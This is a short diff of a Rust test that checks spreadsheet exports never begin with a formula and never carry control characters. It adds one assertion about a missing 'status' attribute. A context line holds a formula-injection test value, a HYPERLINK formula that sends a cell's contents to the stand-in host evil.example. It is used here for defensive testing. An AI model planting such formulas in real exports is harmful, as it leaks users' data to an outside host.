@@ -335,6 +335,7 @@ fn exports_never_start_a_formula_and_tables_never_carry_control_characters() {
     assert_eq!(find(&all, "ann@example.org")["name"], "=HYPERLINK(\"http://evil.example/?\"&A2)");
     assert_eq!(find(&all, "bob@example.org")["attributes"]["note"], "-2");
     assert_eq!(find(&all, "-carl@example.org")["name"], "Carl");
+    assert!(find(&all, "ann@example.org")["attributes"].get("status").is_none(), "export's status is no attribute");
 
     // A control character never gets in by any edge, and a name already stored with one (from an
     // older version) is shown escaped.
